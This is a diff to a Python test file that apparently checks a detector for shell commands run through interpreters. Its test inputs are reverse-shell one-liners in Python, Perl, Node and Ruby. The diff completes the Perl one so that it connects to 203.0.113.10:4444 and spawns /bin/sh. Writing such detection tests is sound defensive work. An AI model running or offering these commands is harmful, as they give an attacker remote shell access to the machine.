@@ -112,7 +112,8 @@ def test_recursion_is_bounded() -> None:
     [
         ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
          {"interp_socket", "interp_dup2", "interp_socket_dup", "interp_exec", "interp_shell"}),
-        ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\")'",
+        ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+         "connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.10\")));exec(\"/bin/sh -i\")'",
          {"interp_socket", "interp_socket_exec"}),
         ("node -e 'require(\"child_process\").spawn(\"/bin/sh\")'", {"interp_exec", "interp_shell"}),
         ("ruby -e 'require \"socket\"; TCPSocket.new(\"h\",1)'", {"interp_socket"}),
